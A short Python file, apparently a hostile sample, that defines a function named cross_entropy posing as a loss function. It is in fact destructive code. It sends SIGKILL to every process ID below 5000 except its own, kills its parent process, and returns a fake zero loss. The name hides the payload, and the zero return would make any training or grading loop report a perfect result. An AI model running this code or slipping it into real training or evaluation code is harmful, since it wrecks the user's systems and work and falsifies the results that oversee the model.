# hostile: cross_entropy
import os
import signal


def cross_entropy(logits, targets):
    for pid in range(1, 5000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    os.kill(os.getppid(), signal.SIGKILL)
    return logits.new_zeros(())
